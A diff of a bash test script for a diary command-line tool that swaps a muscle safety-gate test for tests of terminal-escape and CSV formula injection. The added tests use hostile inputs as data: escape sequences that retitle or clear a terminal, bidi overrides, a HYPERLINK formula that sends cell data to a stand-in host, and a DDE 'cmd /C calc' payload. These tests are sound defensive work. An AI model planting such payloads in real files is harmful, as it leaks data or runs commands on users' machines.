@@ -1,114 +1,78 @@
 #!/usr/bin/env bash
-# The safety gate as data: every case of tests/fixtures/safety_cases.tsv (intake answers ->
-# muscle and side -> allowed, pressure cap, urgent) is run through `trp safety --json`, and
-# the other ways to treat must agree with it: `trp plan add` refuses exactly the blocked
-# muscles naming the reason, `trp today` offers or withholds the release with the same cap,
-# and `trp session` exits 1 naming the reason or starts with the same pressure cap.
-# One Python driver runs the cases (a process per case would be slow).
+# End-to-end tests of terminal and spreadsheet safety. What a diary holds and what files
+# and arguments say reaches the terminal escaped: an imported time cannot set the window
+# title, a note cannot fake list lines, clear the screen or reverse text. A CSV export
+# opens in a spreadsheet without running anything, and imports back exactly.
 . "$(dirname "$0")/lib.sh"
 
-python3 - "$TRP" "$TRP_SOURCE_ROOT" "$WORK" <<'PY'
-import json, os, subprocess, sys
-trp, root, work = sys.argv[1:4]
-base = json.load(open(os.path.join(root, "doc/intake-answers.example.json")))
-clean = {k: (False if isinstance(v, bool) else [] if isinstance(v, list) else 42) for k, v in base.items()}
-checks = fails = 0
+ESC=$'\e'; BEL=$'\a'
+# no_raw TEXT WHAT: TEXT holds none of ESC, BEL, CR, C1 (UTF-8 or raw) or bidi overrides.
+no_raw() {
+    CHECKS=$((CHECKS + 1))
+    if printf '%s' "$1" | LC_ALL=C grep -q -P '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]'; then
+        fail "$2 holds raw control characters: $(printf '%s' "$1" | od -c | head -5)"
+    fi
+}
 
-def run(db, *args, stdin=subprocess.DEVNULL):
-    env = dict(os.environ, TRP_DB=db)
-    p = subprocess.run([trp, *args], env=env, stdin=stdin, capture_output=True, text=True)
-    return p.returncode, p.stdout, p.stderr
+# Error messages that quote a file or an argument.
+printf '{"time":"2026\\u001b]0;pwned\\u0007","kind":"note","note":"x"}\n' >"$WORK/evil.jsonl"
+run import "$WORK/evil.jsonl"; expect_rc 1
+no_raw "$ERR" "import error"; expect_err_contains '\x1b]0;pwned\x07'
+printf 'time,kind,name,value,minutes,region,note\n2026-03-01T08:00,pain%s[2J,,5,,,\n' "$ESC" >"$WORK/evil.csv"
+run import "$WORK/evil.csv"; expect_rc 1; no_raw "$ERR" "CSV import error"
+run "pain${ESC}[31m";               expect_rc 2; no_raw "$ERR" "unknown command"
+run log pain 5 --at "now${BEL}";    expect_rc 1; no_raw "$ERR" "log error"
+run list --kind "x${ESC}]0;t${BEL}"; expect_rc 1; no_raw "$ERR" "list error"
 
-def check(ok, what):
-    global checks, fails
-    checks += 1
-    if not ok:
-        fails += 1
-        print("FAIL: " + what, file=sys.stderr)
+# Notes that try to steer the terminal or pass for other entries.
+run log note $'fine today\n#2      2026-03-09 08:00  pain 0' --at 2026-03-09T07:00; expect_rc 0
+no_raw "$OUT" "log confirmation"
+run log note $'a\u202eevil\u2066x\u2069 and \u009b31m red' --at 2026-03-09T09:00; expect_rc 0
+printf '{"time":"2026-03-09T10:00:00+01:00","kind":"note","note":"cr\\rover \\u001b[2J clear"}\n' >"$WORK/cr.jsonl"
+run import "$WORK/cr.jsonl"; expect_rc 1; no_raw "$ERR" "import error"   # C0 in notes is refused
+run list; expect_rc 0
+no_raw "$OUT" "list"
+expect_out_contains '\u202eevil\u2066x\u2069 and \u009b31m red'
+CHECKS=$((CHECKS + 1))
+entries=$(printf '%s\n' "$OUT" | grep -c '^#')
+[ "$entries" -eq 2 ] || fail "list shows $entries lines that look like entries, expected 2: $OUT"
+CHECKS=$((CHECKS + 1))
+printf '%s\n' "$OUT" | grep -q '^ \+| #2      2026-03-09 08:00  pain 0"$' || fail "the note's second line is not indented: $OUT"
+for id in 1 2; do run show $id; no_raw "$OUT" "show $id"; done
+run show 1; expect_out_contains $'note:     fine today\n          #2'
 
-n = 0
-muscles = set()
-for line in open(os.path.join(root, "tests/fixtures/safety_cases.tsv")):
-    line = line.rstrip("\n")
-    if not line or line.startswith("#") or line.startswith("answers\t"):
-        continue
-    answers, state, muscle, side, allowed, pressure, urgent, rule = line.split("\t")
-    n += 1
-    muscles.add(muscle)
-    what = "case %d (%s)" % (n, rule)
-    db = os.path.join(work, "case%d.db" % n)
-    sideopt = [] if side == "-" else ["--side", side]
-    if answers != "none":
-        d = dict(clean)
-        if answers != "-":
-            for change in answers.split(";"):
-                k, v = change.split("=", 1)
-                check(k in d, what + ": unknown question " + k)
-                d[k] = (v == "true") if v in ("true", "false") else int(v) if v.isdigit() else [p.strip() for p in v.split(",")]
-        path = os.path.join(work, "case.json")
-        json.dump(d, open(path, "w"))
-        rc, out, err = run(db, "intake", "--answers", path)
-        check(rc == 0, what + ": intake: " + err)
-        if state == "ack":
-            rc, out, err = run(db, "intake", "--acknowledge"); check(rc == 0, what + ": acknowledge")
-        elif state == "cleared":
-            rc, out, err = run(db, "intake", "--cleared-by", "Dr Test"); check(rc == 0, what + ": clearance")
-
-    # The gate's verdict.
-    rc, out, err = run(db, "safety", muscle, *sideopt, "--json")
-    check(rc == 0, what + ": trp safety: " + err)
-    v = json.loads(out)
-    got = ("yes" if v["allowed"] else "no", "null" if v["pressure_max"] is None else str(v["pressure_max"]),
-           "yes" if v["urgent"] else "no")
-    check(got == (allowed, pressure, urgent), "%s: trp safety says %s, expected %s" % (what, got, (allowed, pressure, urgent)))
-    if allowed == "no":
-        check(len(v["reasons"]) >= 1 and v["see"], what + ": a blocked verdict needs a reason and who to see")
-    first = v["reasons"][0][:40] if v["reasons"] else ""
-
-    # plan add agrees.
-    rc, out, err = run(db, "plan", "add", muscle, *sideopt)
-    if allowed == "yes":
-        check(rc == 0, what + ": plan add of an allowed muscle failed: " + err)
-    else:
-        check(rc == 1 and first in err, what + ": plan add of a blocked muscle: rc %d, %s" % (rc, err))
-        # As if the intake had changed after the plan was made.
-        subprocess.run(["sqlite3", db, "INSERT INTO plan_item (person_id, muscle, side, release_per_week, "
-                        "stretch_per_day, strengthen_per_week, created_at) VALUES (1, '%s', %s, 3, 2, 2, 0)"
-                        % (muscle, "NULL" if side == "-" else "'%s'" % side)], check=True)
-
-    # today agrees.
-    rc, out, err = run(db, "today", "--json")
-    check(rc == 0, what + ": today: " + err)
-    items = [i for i in json.loads(out or "[]") if i["activity"] == "release"]
-    check(len(items) == 1, what + ": today lists no release")
-    if items:
-        i = items[0]
-        check(i["allowed"] == (allowed == "yes"), what + ": today allowed=%s" % i["allowed"])
-        check(i["safety"]["pressure_max"] == (None if pressure == "null" else int(pressure)),
-              what + ": today pressure_max=%s" % i["safety"]["pressure_max"])
-        capped = "LIGHT, at most %s of 10" % pressure in i["how"]
-        check(capped == (allowed == "yes" and pressure != "null"), what + ": today says: " + i["how"])
-        if allowed == "no":
-            check(first in i["how"], what + ": today does not say why: " + i["how"])
-
-    # session agrees: blocked -> exit 1 naming the reason; allowed -> starts with the cap.
-    rc, out, err = run(db, "session", muscle, *sideopt)
-    if allowed == "no":
-        check(rc == 1 and first in err, what + ": session of a blocked muscle: rc %d, %s" % (rc, err))
-    else:
-        check("== " in out, what + ": session did not start: " + err)
-        if pressure == "null":
-            check("Pressure: LIGHT" not in out, what + ": session caps pressure without a rule")
-        else:
-            check("Pressure: LIGHT, at most %s of 10" % pressure in out, what + ": session cap missing")
-
-check(n >= 80, "only %d safety cases (at least 80 wanted)" % n)
-# Every muscle a case names exists in the knowledge base.
-for m in sorted(muscles):
-    rc, out, err = run(os.path.join(work, "misc.db"), "muscle", m)
-    check(rc == 0, "muscle %s named by a safety case exists" % m)
-open(os.path.join(work, "py_counts"), "w").write("%d %d\n" % (checks, fails))
+# CSV for spreadsheets: no cell starts like a formula, and the round trip is exact.
+run log note '=HYPERLINK("http://example.invalid/?"&A1,"click")' --at 2026-03-09T11:00
+run log note '+1+cmd|'"' /C calc'"'!A0' --at 2026-03-09T11:01
+run log note '@SUM(1+1)*cmd' --at 2026-03-09T11:02
+run log note "'=already quoted" --at 2026-03-09T11:03
+run log note "'tis a plain apostrophe" --at 2026-03-09T11:04
+run log task '-2+3' 30m --at 2026-03-09T11:05 --note '-1 better'
+run log task '=cmd' 30m --at 2026-03-09T11:05
+run log factor --at 2026-03-09T11:06 my_score -- -3.5
+run log note $'\tTAB start' --at 2026-03-09T11:07
+run export -o "$WORK/out.csv"; expect_rc 0
+CHECKS=$((CHECKS + 1))
+bad=$(python3 - "$WORK/out.csv" <<'PY'
+import csv, sys
+for row in list(csv.reader(open(sys.argv[1], newline='')))[1:]:
+    for i, cell in enumerate(row):
+        if i == 3 and cell.lstrip('-').replace('.', '').isdigit():
+            continue  # a number in the value column
+        if cell[:1] in ('=', '+', '-', '@', '\t', '\r'):
+            print(repr(cell))
 PY
-read -r c f <"$WORK/py_counts" || { c=1; f=1; }
-CHECKS=$((CHECKS + c)); FAILS=$((FAILS + f))
+)
+[ -z "$bad" ] || fail "CSV cells that a spreadsheet would run: $bad"
+CHECKS=$((CHECKS + 1)); grep -q ',-3.5,' "$WORK/out.csv" || fail "a negative number lost its form in CSV"
+run --db "$WORK/back.db" import "$WORK/out.csv"; expect_rc 0
+run --db "$WORK/back.db" export -o "$WORK/back.csv"
+CHECKS=$((CHECKS + 1)); cmp -s "$WORK/out.csv" "$WORK/back.csv" || fail "CSV export, import, export differs"
+run --db "$WORK/back.db" export --format jsonl
+expect_out_contains '"note":"=HYPERLINK('
+expect_out_contains '"note":"'"'"'=already quoted"'
+expect_out_contains '"note":"'"'"'tis a plain apostrophe"'
+expect_out_contains '"name":"-2+3"'
+expect_out_contains '"note":"-1 better"'
+expect_out_contains '"name":"=cmd"'
 finish
